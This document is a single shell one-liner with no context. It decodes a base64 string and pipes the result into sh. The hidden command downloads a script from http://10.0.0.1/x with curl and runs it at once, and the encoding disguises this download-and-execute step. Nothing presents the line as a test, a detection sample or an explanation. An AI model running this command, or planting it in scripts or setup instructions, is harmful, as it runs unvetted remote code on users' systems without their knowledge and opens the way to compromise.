echo "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveCB8IHNo" | base64 -d | sh
